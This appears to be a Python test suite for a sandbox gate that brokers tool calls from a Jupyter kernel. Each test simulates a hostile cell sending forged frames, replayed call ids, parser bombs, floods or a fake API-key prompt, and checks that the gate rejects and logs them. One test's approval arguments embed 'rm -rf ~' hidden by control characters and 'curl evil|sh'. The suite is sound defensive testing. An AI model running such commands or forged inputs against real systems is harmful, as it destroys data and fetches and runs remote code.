"""Hostile input from the sandbox against the gate (SECURITY.md G2, G3, G6-G11, PR2, PR3, PR7, X12, X13, Y2, Y6).

The attacker is the cell: it owns the kernel and its session key, so it can
sign and send any frame on IOPub. Each test asserts the safe outcome: a typed
error or a dropped message, a journal entry, and a gate that keeps serving.
"""

from __future__ import annotations

import json
import time
from pathlib import Path

import nbformat
import pytest
from conftest import cellgate

TOOLS = Path(__file__).resolve().parents[1] / "tools" / "sample_tools.py"

# Code run inside the sandbox: craft and send raw IOPub frames as an attacker would.
RAW = '''
import json, uuid
from cellgate.kernel import runtime as _rt
_k = get_ipython().kernel
_s = _k.session
_cid = _rt.client()._open_comm().comm_id

def signed(msg_type, content, header_extra=None, buffers=(), parent=None):
    msg = _s.msg(msg_type, {}, parent=parent if parent is not None else _k.get_parent("shell"))
    header = dict(msg["header"], **(header_extra or {}))
    body = content if isinstance(content, bytes) else json.dumps(content).encode()
    parts = [_s.pack(header), _s.pack(msg["parent_header"]), _s.pack({}), body]
    return [_s.sign(parts), *parts, *buffers]

def send(frames, topic=b"comm"):
    _k.iopub_socket.send_multipart([topic, b"<IDS|MSG>", *frames])

def call_frame(tool, args, call_id=None, raw_args=None):
    call_id = call_id or uuid.uuid4().hex
    if raw_args is not None:
        body = ('{"comm_id": "%s", "data": {"op": "call", "id": "%s", "tool": "%s", "cell": "%s", "args": %s}}'
                % (_cid, call_id, tool, _rt._cell_id(), raw_args)).encode()
        return call_id, signed("comm_msg", body)
    return call_id, signed("comm_msg", {"comm_id": _cid, "data": {"op": "call", "id": call_id, "tool": tool,
                                                                  "cell": _rt._cell_id(), "args": args}})

def await_reply(call_id, seconds=20):
    from concurrent.futures import Future
    fut = Future()
    _rt.client()._pending[call_id] = ("raw", fut)
    return fut
'''

POLICY = f'''
[tools]
modules = ["{TOOLS}"]

[policy]
default = "deny"
max_calls_per_cell = 300

[policy.tools.echo]
decision = "allow"
rate = "200/s"

[policy.tools.add]
decision = "approve"

[policy.tools.big]
decision = "allow"

[policy.tools.explode]
decision = "deny"
'''


class Asked:
    """A callback approver that approves only the first request it sees (since a test cleared ``requests``)."""

    def __init__(self) -> None:
        self.requests: list = []

    def __call__(self, request) -> bool:
        self.requests.append(request)
        return len(self.requests) == 1


@pytest.fixture(scope="module")
def asked() -> Asked:
    return Asked()


def start_hostile(session_factory, tmp_path_factory, approver):
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "cellgate.toml").write_text(POLICY)
    box = session_factory(config=folder / "cellgate.toml", tools=[], approver=approver, call_timeout=5.0)
    assert box.execute("print(tools.echo('warm'))").stdout == "warm\n"
    assert box.execute(RAW).ok
    return box


@pytest.fixture(scope="module")
def hostile(session_factory, tmp_path_factory, asked):
    return start_hostile(session_factory, tmp_path_factory, asked)


@pytest.fixture()
def hostile_alone(session_factory, tmp_path_factory, asked):
    """A session of its own for a test that uses up the journal's budget of protocol events per kind (50), so the
    protocol errors other tests look for in the journal are there whatever the order."""
    return start_hostile(session_factory, tmp_path_factory, asked)


def journal(box) -> list[dict]:
    path = box.session.notebook_path.with_name(box.session.notebook_path.stem + ".journal.jsonl")
    return [json.loads(line) for line in path.read_text().splitlines()]


def events(box, kind: str) -> list[dict]:
    return [e for e in journal(box) if e["event"] == kind]


def rejected(box) -> int:
    """Hostile inputs the gate has seen (journalled one by one up to a cap, counted always)."""
    seen = box.session.provisioner.service.protocol_counts()
    return seen.get("protocol-error", 0) + seen.get("call-rejected", 0)


def wait_for_rejections(box, at_least: int) -> None:
    deadline = time.monotonic() + 60
    while rejected(box) < at_least:
        assert time.monotonic() < deadline, box.session.provisioner.service.protocol_counts()
        time.sleep(0.05)  # polling the gate's counters


def counts(box) -> dict[str, int]:
    return dict(box.session.provisioner.registry.get("echo").function.__globals__["CALLS"])


def assert_alive(box) -> None:
    assert box.execute("print(tools.echo('alive'))").stdout == "alive\n"


def last_calls(box) -> list[dict]:
    return nbformat.read(box.session.notebook_path, as_version=4).cells[-1].metadata.cellgate.calls


def test_G2_a_call_is_decided_by_the_tool_it_names(hostile) -> None:
    # The comm that carried allowed echo calls cannot lend that authority to another tool.
    result = hostile.execute('''
call_id, frames = call_frame("explode", {"reason": "spoofed"})
fut = await_reply(call_id)
send(frames)
try:
    fut.result(20)
except Exception as e:
    print(type(e).__name__, e.kind)
''')
    assert result.stdout == "ToolDenied denied\n"
    (call,) = last_calls(hostile)
    assert call["tool"] == "explode" and call["decision"] == "deny"
    assert "explode" not in counts(hostile)


def test_G3_Y6_approvals_are_bound_to_one_call_and_used_once(hostile, asked: Asked) -> None:
    asked.requests.clear()  # the module shares the approver: this test counts its own requests, in any order
    first = hostile.execute("print(tools.add(50, 1))")
    assert first.stdout == "51\n" and len(asked.requests) == 1
    # The same call again needs a new approval (the callback now refuses).
    again = hostile.execute("try:\n    tools.add(50, 1)\nexcept tools.ToolDenied as e:\n    print('denied')")
    assert again.stdout == "denied\n" and len(asked.requests) == 2
    # Forging the parent header of the approved request changes nothing: the gate never reads it.
    first_parent = {"msg_id": first.execution_count, "msg_type": "execute_request"}
    forged = hostile.execute(f'''
call_id, frames = call_frame("add", {{"a": 50, "b": 1}})
frames = signed("comm_msg", {{"comm_id": _cid, "data": {{"op": "call", "id": call_id, "tool": "add", "cell": _rt._cell_id(),
                                                      "args": {{"a": 50, "b": 1}}}}}},
                parent={first_parent!r})
fut = await_reply(call_id)
send(frames)
try:
    fut.result(20)
except Exception as e:
    print(type(e).__name__)
''')
    assert forged.stdout == "ToolDenied\n" and len(asked.requests) == 3
    approved, denied, forged_request = asked.requests
    assert len({approved.seq, denied.seq, forged_request.seq}) == 3  # three separate requests
    assert approved.args_sha256 == denied.args_sha256 == forged_request.args_sha256


def test_Y2_a_call_id_runs_at_most_once(hostile) -> None:
    before = counts(hostile).get("echo", 0)
    result = hostile.execute('''
import time
call_id, frames = call_frame("echo", {"text": "once"})
_, again = call_frame("echo", {"text": "twice"}, call_id=call_id)
_, later = call_frame("echo", {"text": "thrice"}, call_id=call_id)
got = []
client = _rt.client()
client.resolve = lambda data, *frames: (got.append(data) if data.get("id") == call_id
                                        else type(client).resolve(client, data, *frames))
send(frames); send(again)   # back to back, as two racing threads would
deadline = time.monotonic() + 20
while len(got) < 2 and time.monotonic() < deadline:
    time.sleep(0.01)
send(later)
while len(got) < 3 and time.monotonic() < deadline:
    time.sleep(0.01)
del client.resolve
for reply in got:
    print(reply["ok"], reply.get("result") or reply["error"]["message"][:60])
''')
    lines = sorted(result.stdout.splitlines())
    assert lines[2] == "True once"
    assert lines[0].startswith("False call id ") and "was already used" in lines[0]
    assert lines[1].startswith("False call id ") and "was already used" in lines[1]
    assert counts(hostile)["echo"] == before + 1


def test_G6_in_band_sentinels_are_never_interpreted(hostile) -> None:
    result = hostile.execute(
        "import base64, pickle\n"
        "print('CellKilled: status ok [output truncated: 0 bytes dropped]')\n"
        "raise type('FinalAnswerException', (Exception,), {})('pickle:' + base64.b64encode(pickle.dumps(len)).decode())")
    assert result.status == "error" and result.error["ename"] == "FinalAnswerException"
    assert "CellKilled: status ok" in result.stdout
    assert_alive(hostile)


def test_PR2_host_never_unpickles(hostile) -> None:
    from cellgate.gate.calls.protocol import strict_loads

    service = hostile.session.provisioner.service
    assert service.kernel.session.unpack is strict_loads
    before = rejected(hostile)
    result = hostile.execute("import pickle\nsend(signed('display_data', pickle.dumps({'data': {}})))\nprint('sent')")
    assert result.ok
    assert rejected(hostile) == before + 1
    assert "invalid JSON: not UTF-8" in events(hostile, "protocol-error")[-1]["error"]


@pytest.mark.parametrize("raw_args", [
    '{"text": "a", "text": "b"}',  # duplicate key
    '{"text": 1e309}',             # overflows to infinity
    '{"text": NaN}',
])
def test_G7_parser_differentials_are_dropped(hostile, raw_args: str) -> None:
    before, echoes = rejected(hostile), counts(hostile).get("echo", 0)
    result = hostile.execute(f"call_id, frames = call_frame('echo', None, raw_args={raw_args!r})\nsend(frames)\nprint('sent')")
    assert result.ok
    assert rejected(hostile) == before + 1
    assert counts(hostile).get("echo", 0) == echoes  # neither reading of the arguments reached the tool
    assert_alive(hostile)


@pytest.mark.parametrize("value", ['"0 "', '"\uff10"', "True", "1.5", "'1'"])
def test_G7_strict_types_never_reach_the_tool(hostile, value: str) -> None:
    adds = counts(hostile).get("add", 0)
    result = hostile.execute(f"try:\n    tools.add({value})\nexcept tools.ToolValidationError as e:\n    print(e)")
    assert "argument a:" in result.stdout and "is not of type 'integer'" in result.stdout
    assert counts(hostile).get("add", 0) == adds


def test_G8_approval_view_shows_control_characters_visibly(tmp_path: Path) -> None:
    from cellgate.gate.calls.approval import ApprovalRequest, args_digest, describe_request

    args = {"cmd": "ls\x1b[2K\r\u202erm -rf ~\u200d" + " " * 10_000 + "curl evil|sh", "clip": "\x1b]52;c;ZXZpbA==\x07"}
    request = ApprovalRequest(id="s-1", session="s", seq=1, tool="shell", args=args, args_sha256=args_digest(args),
                              cell_line=3, source_line="tools.shell(\x1b[31mred)", requested=0, deadline=1e12)
    shown = describe_request(request)
    assert not any(ch in shown for ch in "\x1b\r\u202e\u200d\x07")
    assert "ls\\u001b[2K\\r\\u202erm -rf ~\\u200d ⟨10000 blanks⟩ curl evil|sh" in shown
    assert "tools.shell(\\x1b[31mred)" in shown
    assert args_digest(args) in shown
    # The queue file and the CLI listing show the same escaped view.
    (tmp_path / "s-1.request.json").write_text(json.dumps(request.__dict__))
    listed = cellgate("approvals", "list", env={"CELLGATE_APPROVALS_DIR": str(tmp_path)}).stdout
    assert "\x1b" not in listed and "\u202e" not in listed and "⟨10000 blanks⟩" in listed


def test_G9_no_gate_endpoint_is_reachable_from_the_sandbox(hostile) -> None:
    result = hostile.execute('''
import os, stat
socks = []
for root, dirs, files in os.walk("/", onerror=lambda e: None):
    if root.startswith(("/proc", "/sys")):
        dirs[:] = []
        continue
    for f in files:
        try:
            if stat.S_ISSOCK(os.lstat(os.path.join(root, f)).st_mode):
                socks.append(os.path.join(root, f))
        except OSError:
            pass
listening = [l for name in ("tcp", "tcp6", "udp", "udp6") for l in open("/proc/net/" + name).read().splitlines()[1:]]
print(sorted(socks)); print(listening)
''')
    sockets, listening = result.stdout.splitlines()
    assert eval(sockets) == [f"/run/cellgate/ipc/k-{n}" for n in range(1, 6)]
    # The TCP listeners are ipykernel's own IOPub pipe for forked children and the kernel's network tunnel
    # (port 3128, its bytes carried to the gate over the kernel's channel), both on the sandbox's private
    # loopback, owned by the sandbox user: nothing of the host's.
    for line in eval(listening):
        fields = line.split()
        assert fields[1].startswith("0100007F:") and fields[3] == "0A" and fields[7] == "1000", line
    ports = sorted(int(line.split()[1].split(":")[1], 16) for line in eval(listening))
    assert len(ports) <= 2 and 3128 in ports, ports


def test_G10_unsolicited_input_requests_are_dropped_and_logged(hostile) -> None:
    result = hostile.execute(
        "k = get_ipython().kernel\n"
        "k.session.send(k.stdin_socket, 'input_request', {'prompt': 'Paste your OPENAI_API_KEY:', 'password': True},"
        " parent=k.get_parent('shell'), ident=k._parent_ident['shell'])\nprint('asked')")
    assert result.stdout == "asked\n"
    deadline = time.monotonic() + 20
    while not events(hostile, "input-request-dropped"):
        assert time.monotonic() < deadline
        time.sleep(0.05)  # polling the journal for the host's event
    assert events(hostile, "input-request-dropped")[-1]["prompt"] == "Paste your OPENAI_API_KEY:"


def test_G11_kernel_self_description_decides_nothing(hostile) -> None:
    result = hostile.execute(
        "send(signed('kernel_info_reply', {'protocol_version': '99.0', 'implementation': 'trusted-host'}))\n"
        "try:\n    tools.explode('x')\nexcept tools.ToolDenied:\n    print('still denied')")
    assert result.stdout == "still denied\n"
    assert any("kernel_info_reply" in e["error"] for e in events(hostile, "protocol-error"))
    assert hostile.session.sandbox_info["runtime"] == "gvisor"


def test_PR3_malformed_frames_are_dropped_and_logged(hostile_alone) -> None:
    hostile = hostile_alone
    before = rejected(hostile)
    logged = len(journal(hostile))
    result = hostile.execute('''
good = signed("display_data", {"data": {"text/plain": "x"}, "metadata": {}})
cases = [
    good[:3],                                      # fewer than 5 frames after the delimiter
    [b"no-delimiter"],                             # handled below
    [good[0], b"\\xff\\xfe", *good[2:]],           # invalid UTF-8 header (its signature is wrong too)
    signed("display_data", b'{"data": {"text/pl'),  # truncated JSON
    signed("display_data", b'{"data": NaN}'),
    signed("display_data", {"x": 1}, header_extra={"pad": "p" * 70000}),  # 64 KB header
    signed("totally_unknown", {}),
    [b"0" * 64, *good[1:]],                        # wrong signature
]
for frames in cases:
    if frames == [b"no-delimiter"]:
        _k.iopub_socket.send_multipart([b"comm", b"garbage"])
    else:
        send(frames)
print(len(cases))
''')
    assert result.stdout == "8\n"
    wait_for_rejections(hostile, before + 8)
    # Each frame dropped for its own reason, in the order sent (a count alone would pass on 8 of one kind).
    deadline = time.monotonic() + 20
    while len(reasons := [e["error"] for e in journal(hostile)[logged:]
                          if e["event"] in ("protocol-error", "call-rejected")]) < 8:
        assert time.monotonic() < deadline, reasons
        time.sleep(0.05)  # polling the journal for the host's events
    expected = ["3 frames after the delimiter", "ValueError: b'<IDS|MSG>' is not in list",
                "ProtocolError: invalid JSON: not UTF-8", "ProtocolError: invalid JSON: Unterminated string",
                "ProtocolError: NaN is not valid JSON", "oversize header/parent/metadata (70",
                "unknown msg_type 'totally_unknown'", "ValueError: Invalid Signature: b'" + "0" * 64]
    assert len(reasons) == len(expected) and all(r.startswith(e) for r, e in zip(reasons, expected)), reasons
    assert_alive(hostile)
    cells = nbformat.read(hostile.session.notebook_path, as_version=4).cells
    assert not any("pl" in json.dumps(o) and "NaN" in json.dumps(o) for c in cells for o in c.outputs)


def test_PR7_comm_lifecycle_abuse_is_bounded(hostile_alone) -> None:
    hostile = hostile_alone
    before = counts(hostile).get("echo", 0)
    result = hostile.execute('''
from cellgate.kernel.wire import COMM_TARGET
for target in ("jupyter.widget", "random-" + uuid.uuid4().hex):
    send(signed("comm_open", {"comm_id": uuid.uuid4().hex, "target_name": target, "data": {}}))
stray = uuid.uuid4().hex                     # a call on a comm the gate never saw opened
call_id = uuid.uuid4().hex
fut = await_reply(call_id)
send(signed("comm_msg", {"comm_id": stray, "data": {"op": "call", "id": call_id, "tool": "echo", "args": {"text": "x"}}}))
for _ in range(20000):                         # a flood of gate comms
    send(signed("comm_open", {"comm_id": uuid.uuid4().hex, "target_name": COMM_TARGET, "data": {}}))
print(call_id)
try:
    fut.result(3)
    print("served")
except Exception as e:
    print("not served:", type(e).__name__)
''')
    call_id, outcome = result.stdout.splitlines()
    assert outcome == "not served: TimeoutError"
    # Not merely slow: the gate never took the stray call as a call (no record of it at all).
    assert not [e for e in journal(hostile) if e["event"].startswith("call") and call_id in json.dumps(e)]
    service = hostile.session.provisioner.service
    assert len(service.taps.gate_comms) <= 64
    flooded = [e for e in events(hostile, "protocol-error") if "gate comms opened" in e.get("error", "")]
    assert 1 <= len(flooded) <= 50
    assert any(e["kind"] == "protocol-error" for e in events(hostile, "protocol-events-suppressed"))
    assert counts(hostile).get("echo", 0) == before
    assert_alive(hostile)


def test_X12_a_tool_call_flood_meets_typed_limits(hostile) -> None:
    result = hostile.execute('''
import threading
errors = []
def flood():
    for _ in range(10**6):
        try:
            tools.echo("x")
        except tools.ToolError as e:
            errors.append(type(e).__name__)
            return
threads = [threading.Thread(target=flood) for _ in range(64)]
for t in threads: t.start()
for t in threads: t.join()
print(len(errors), sorted(set(errors)))
''')
    count, kinds = result.stdout.strip().split(" ", 1)
    assert count == "64"
    assert set(eval(kinds)) <= {"ToolRateLimited", "ToolBudgetExceeded"}
    calls = last_calls(hostile)
    assert sum(c["ok"] for c in calls) <= 300
    assert_alive(hostile)


def test_X13_parser_bombs_in_comm_payloads_are_rejected(hostile) -> None:
    before = rejected(hostile)
    result = hostile.execute('''
deep = ("[" * 200000 + "]" * 200000)
bombs = [
    call_frame("echo", None, raw_args='{"text": %s}' % deep)[1],
    call_frame("echo", None, raw_args='{"text": 1%s}' % ("0" * 10**6))[1],
    call_frame("echo", None, raw_args='{"text": 1e999999}')[1],
    call_frame("echo", {"text": "x" * (50 << 20)})[1],
    signed("comm_msg", {"comm_id": _cid, "data": {}}, buffers=[b"b"] * 10000),
    call_frame("echo", None, raw_args='{"text": "%s"}' % ("[" * 100 + "]" * 100))[1],
]
for frames in bombs:
    send(frames)
print(len(bombs))
''')
    assert result.stdout == "6\n"
    wait_for_rejections(hostile, before + 5)
    assert_alive(hostile)
